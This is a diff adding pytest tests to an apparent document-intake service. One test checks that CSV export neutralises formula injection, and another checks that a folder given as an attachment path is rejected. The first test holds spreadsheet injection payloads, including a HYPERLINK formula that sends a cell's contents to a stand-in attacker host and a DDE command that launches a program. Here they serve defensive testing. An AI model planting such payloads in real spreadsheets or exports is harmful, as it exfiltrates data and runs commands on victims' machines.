@@ -338,3 +338,36 @@ def test_an_e_license_the_material_does_not_take_or_the_applicant_lacks_is_refus
                                                     "license_missing", "license_missing"]
     assert "只接受电子证照 resident_id" in result.rejections[1].reason
     assert "未过期" in result.rejections[3].reason
+
+
+def test_export_csv_cells_that_a_spreadsheet_would_run_are_quoted_and_import_back_as_typed(
+        session, clerk, supervisor, catalog, settings, tmp_path):
+    import csv
+
+    from counterdesk.services.export import export
+
+    folder = batch_folder(tmp_path)
+    formulas = ['=HYPERLINK("http://evil.example/?"&A1,"详情")', "+cmd|' /C calc'!A0", "@SUM(1+1)*cmd", "-2+3"]
+    rows = [example_row(f"r-{n}", remark=remark) for n, remark in enumerate(formulas)]
+    run(session, clerk, catalog, settings, write_jsonl(folder / "rows.jsonl", rows))
+    out = tmp_path / "out" / "day.csv"
+    assert export(session, actor=supervisor, settings=settings, out=out, fmt="csv", day=today()) == 4
+    with open(out, encoding="utf-8", newline="") as handle:
+        cells = [cell for row in csv.reader(handle) for cell in row]
+    assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for cell in cells)
+    assert {f"'{remark}" for remark in formulas} <= set(cells)
+    result = run(session, clerk, catalog, settings, out)
+    assert (result.total, result.duplicates) == (4, 4)
+
+
+def test_an_attachment_path_that_is_a_folder_rejects_its_row_and_the_rest_import(
+        session, clerk, catalog, settings, tmp_path):
+    folder = batch_folder(tmp_path)
+    (folder / "scans" / "M02-folder.pdf").mkdir()
+    bad = example_row("r-2")
+    bad["attachments"]["M02"] = ["scans/M02-folder.pdf"]
+    rows = [example_row("r-1"), bad, example_row("r-3"), example_row("r-4", attachments={
+        **example_row("r").get("attachments"), "M01": ["scans"]})]
+    result = run(session, clerk, catalog, settings, write_jsonl(folder / "rows.jsonl", rows))
+    assert (result.total, result.imported, result.rejected) == (4, 2, 2)
+    assert {item.code for item in result.rejections} == {"file_type"}
